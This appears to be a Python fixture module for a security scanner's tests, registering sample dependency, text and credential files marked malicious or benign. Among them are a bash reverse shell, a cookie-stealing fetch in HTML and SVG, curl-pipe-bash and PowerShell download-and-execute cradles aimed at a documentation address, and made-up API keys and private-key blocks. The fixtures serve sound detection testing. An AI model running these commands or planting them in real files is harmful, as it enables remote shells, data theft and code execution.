"""Dependency lists, plain text, credentials. Addresses are of RFC 5737 and RFC 2606, and lead nowhere."""

from __future__ import annotations

import base64
import json
import pickle  # dumps only

from stannary.testing.forges.configs import PICKLE, URL, file

__all__: list[str] = []

# Dependencies

file("requirements.typosquat", "requirements.txt", "numpy==1.26.4\ntransfromers==4.40.0\n", "dependencies")
file("requirements.typosquat_requests", "requirements.txt", "requestss\n", "dependencies")
file("requirements.plain_http_index", "requirements.txt", "--index-url http://203.0.113.9/simple\nnumpy==1.26.4\n", "dependencies")
file(
    "requirements.extra_index",
    "requirements.txt",
    "--extra-index-url https://packages.example.org/simple\nnumpy==1.26.4\n",
    "dependencies",
)
file(
    "requirements.url",
    "requirements.txt",
    "git+https://github.com/huggingface/transformers@v4.40.0\n",
    "dependencies",
    malicious=False,
)
file("requirements.url_http", "requirements.txt", "tool @ http://203.0.113.9/tool-1.0.tar.gz\n", "dependencies")
file(
    "requirements.trusted_host",
    "requirements.txt",
    "--trusted-host packages.example.org\nnumpy==1.26.4\n",
    "dependencies",
)
file("requirements.unpinned", "requirements.txt", "torch\ntransformers\n", "dependencies", malicious=False)
file(
    "requirements.pinned",
    "requirements.txt",
    "torch==2.3.1\ntransformers==4.41.2\nnumpy==1.26.4\n",
    "dependencies",
    malicious=False,
)
file("requirements.vulnerable", "requirements.txt", "torch==1.13.0\n", "dependencies", malicious=False)
file(
    "requirements.pytorch_index",
    "requirements.txt",
    "--extra-index-url https://wheels.pytorch.org/cu121\ntorch==2.3.1\n",
    "dependencies",
    malicious=False,
)

file("requirements.pip_conf", "pip.conf", "[global]\nextra-index-url =\n    https://packages.example.org/simple\n", "dependencies")
file("requirements.pip_conf_plain", "pip.conf", "[global]\ntimeout = 60\n", "dependencies", malicious=False)
file(
    "requirements.conda_channel",
    "environment.yml",
    "channels:\n- http://203.0.113.9/conda\ndependencies:\n- torch\n",
    "dependencies",
)
file(
    "requirements.uv_index",
    "pyproject.toml",
    '[project]\nname = "x"\nversion = "1"\n[[tool.uv.index]]\nurl = "https://packages.example.org/simple"\n',
    "dependencies",
)
file(
    "requirements.uv_pytorch",
    "pyproject.toml",
    '[project]\nname = "x"\nversion = "1"\n[[tool.uv.index]]\nurl = "https://wheels.pytorch.org/cu121"\n',
    "dependencies",
    malicious=False,
)
file("requirements.bento_index", "bentofile.yaml", "service: x\npython:\n  index_url: http://203.0.113.9/simple\n", "dependencies")
file("requirements.spacy_meta", "meta.json", json.dumps({"requirements": ["tool @ http://203.0.113.9/tool.whl"]}), "dependencies")

# Text

file("text.readme_curl", "README.md", f"# Model\n\nFirst run:\n\n```\ncurl -s {URL} | bash\n```\n", "text")
file(
    "text.readme_plain",
    "README.md",
    "---\nlicense: apache-2.0\ntags: [x]\n---\n# Model\n\n```\ncurl -LsSf https://astral.sh/uv/install.sh | sh\npip install transformers\n```\n\nLoad with `trust_remote_code=True`.\n",
    "text",
    malicious=False,
)
file("text.script_shell", "run.sh", "set -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "text")
file(
    "text.script_plain",
    "run.sh",
    "#!/bin/bash\nset -e\npip install -r requirements.txt\npython train.py\n",
    "text",
    malicious=False,
)
file("text.powershell_encoded", "run.bat", "@echo off\r\npowershell -nop -enc ZQBjAGgAbwA=\r\n", "text")
file("text.vbscript", "setup.vbs", 'Set s = CreateObject("WScript.Shell")\r\ns.Run "echo stannary"\r\n', "text")
file("text.vbscript_spelled", "setup.vbs", "Execute Chr(83) & Chr(101) & Chr(116)\r\n", "text")
file("text.script_host", "setup.js", 'var s = new ActiveXObject("WScript.Shell"); s.Run("echo stannary");\n', "text")
file("text.page_cookies", "index.html", "<script>fetch('http://203.0.113.9/'+document.cookie)</script>\n", "text")
file(
    "text.picture_script",
    "logo.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('//203.0.113.9')</script></svg>\n",
    "text",
)
file(
    "text.page_plain",
    "index.html",
    "<html><script src='https://cdn.example.org/d3.js'></script><script>draw()</script></html>\n",
    "text",
    malicious=False,
)
file("text.python_as_weights", "weights.bin", "# weights\nimport os\nos.system('echo stannary')\n", "text")
file("text.base64_pickle", "notes.txt", b"load me: " + base64.b64encode(PICKLE + b"." * 30) + b"\n", "text")
file("text.hex_pickle", "notes.txt", PICKLE.hex().encode() + b"\n", "text")
file("text.escaped_pickle", "notes.txt", "".join(f"\\x{b:02x}" for b in PICKLE), "text")
file("text.wrapped_pickle", "notes.txt", b"-----\n" + base64.encodebytes(PICKLE + b"." * 60) + b"-----\n", "text")
# Stable-Baselines3: the `data` of an agent's zip, with the pickles of its parts in base64.
_PART = base64.b64encode(pickle.dumps({"seed": 0, "shape": (4,), "low": [-4.8, -3.4], "dtype": "float32"}, 4)).decode()
file("text.agent_plain", "data", json.dumps({"policy": {":type:": "<class 'x'>", ":serialized:": _PART}}), "text", malicious=False)
file("text.agent_hostile", "data", json.dumps({"policy": {":serialized:": base64.b64encode(PICKLE).decode()}}), "text")
file("text.licence_rail", "README.md", "---\nlicense: creativeml-openrail-m\n---\n# Model\n", "text", malicious=False)
file("text.licence_nc", "README.md", "---\nlicense: cc-by-nc-4.0\n---\n# Model\n", "text", malicious=False)
file("text.hidden", "notes.txt", "run\u202e txet desrever\u202c\n", "text", malicious=False)

# Credentials, put together here so that no scanner of this source finds them

file("secret.huggingface", "config.json", json.dumps({"token": "hf_" + "QWmnbVCxzLkjHgfDsaPoiUytReKjhGfdSz"}), "secrets")
file("secret.aws", "settings.env", "AWS_ACCESS_KEY_ID=" + "AKIA" + "Q3EGRT5WKLM2ZNHV" + "\n", "secrets")
file(
    "secret.private_key",
    "id",
    "-----BEGIN OPENSSH PRIVATE "
    "KEY-----\n" + base64.b64encode(bytes(range(200))).decode() + "\n-----END OPENSSH PRIVATE " + "KEY-----\n",
    "secrets",
)
file("secret.database", "app.yaml", "db: postgres://admin:" + "q8Zt2LmP0xW" + "@db.example.org/prod\n", "secrets", malicious=False)
file("secret.assigned", "settings.toml", 'api_key = "' + "Zk3v9QpL7sWx2RtYb8NmJ4" + '"\n', "secrets")
file(
    "secret.registry",
    "config.json",
    json.dumps({"auths": {"registry.example": {"auth": "dXNlcjpaazN2OVFwTDdzV3gyUnRZ" + "YjhObUo0"}}}),
    "secrets",
)
file("secret.netrc", ".netrc", "machine huggingface.co login u password " + "Zk3v9QpL7sWx2RtYb8NmJ4" + "\n", "secrets")
file(
    "secret.cluster",
    "kubeconfig",
    "users:\n- user:\n    client-key-data: "
    + base64.b64encode(b"-----BEGIN RSA PRIVATE " + b"KEY-----\n" + base64.b64encode(bytes(range(90)))).decode()
    + "\n",
    "secrets",
)
file("secret.of_a_database", "app.yaml", "db: postgres://admin:" + "q8Zt2LmP0xWv4T" + "@db.prod.internal/models\n", "secrets")
for _name, _file, _text in (
    ("of_a_provider", ".env", "OPENROUTER_API_KEY=sk-or-v1-" + "93b1f7c2e8a4d06b5c9e1f3a7d2b8c60" * 2 + "\n"),
    ("in_a_variable", ".env", "MISTRAL_API_KEY=" + "Zk3v9QpL7sWx2RtYb8NmJ4Hf6Gd1Sa5Q" + "\n"),
    (
        "of_a_header",
        "call.sh",
        'curl -H "Authorization: Bearer ' + "Zk3v9QpL7sWx2RtYb8NmJ4Hf6Gd1Sa5QZk3v9" + '" https://api.prod.internal\n',
    ),
    ("of_kaggle", "kaggle.json", '{"username": "me", "key": "' + "93b1f7c2e8a4d06b5c9e1f3a7d2b8c60" + '"}'),
    (
        "of_putty",
        "key.ppk",
        "PuTTY-User-Key-File-2: ssh-rsa\nEncryption: none\nPrivate-Lines: 1\nZk3v9QpL7sWx2RtYb8NmJ4Hf6Gd1Sa5QZk3v9QpL7sWx\n",
    ),
):
    file(f"secret.{_name}", _file, _text, "secrets")
file(
    "secret.names_of_tokens",
    "settings.env",
    "EOS_TOKEN=<|end_of_text|>\nMAX_NEW_TOKEN=4096\nMODEL_TOKEN=meta-llama/Llama-3-8B\nHF_TOKEN=${HF_TOKEN}\nAPI_KEY=put-the-key-of-the-service-here\n",
    "secrets",
    malicious=False,
)
file("secret.in_pickle", "model.pkl", pickle.dumps({"w": [1.0], "key": "AKIA" + "Q3EGRT5WKLM2ZNHV"}, 4), "secrets")
file(
    "secret.names_in_pickle",
    "model.pkl",
    pickle.dumps({"min_weight_fraction_leaf": 1, "RandomForestClassifier": "x"}, 4),
    "secrets",
    malicious=False,
)
file(
    "secret.placeholders",
    "settings.env",
    "HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nOPENAI_API_KEY=sk-...\nPASSWORD=changeme\nurl=postgres://user:${PASSWORD}@host/db\n",
    "secrets",
    malicious=False,
)

_FETCHES = "New-Object Net.WebClient).DownloadString('http://203.0.113.9/x.ps1')"
for _name, _filename, _text, _bad in (
    ("powershell_iex", "install.ps1", f"iex ({_FETCHES}\n", True),
    ("powershell_invoke", "install.ps1", f"$a = 1\nInvoke-Expression (({_FETCHES})\n", True),
    ("powershell_pipe", "setup.psm1", f"({_FETCHES} | iex\n", True),
    ("powershell_called", "run.cmd", "powershell -w 1 -c \"IEX(iwr 'http://203.0.113.9/x.ps1')\"\n", True),
    ("powershell_in_card", "README.md", f"# Model\n\n```powershell\niex ({_FETCHES}\n```\n", True),
    ("powershell_chocolatey", "README.md", "```powershell\niex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n```\n", False),
    ("powershell_elixir", "README.md", "Start `iex -S mix`, or iex (the shell of Elixir), and call DownloadString.\n", False),
):  # fmt: skip
    file(f"text.{_name}", _filename, _text, "text", malicious=_bad)
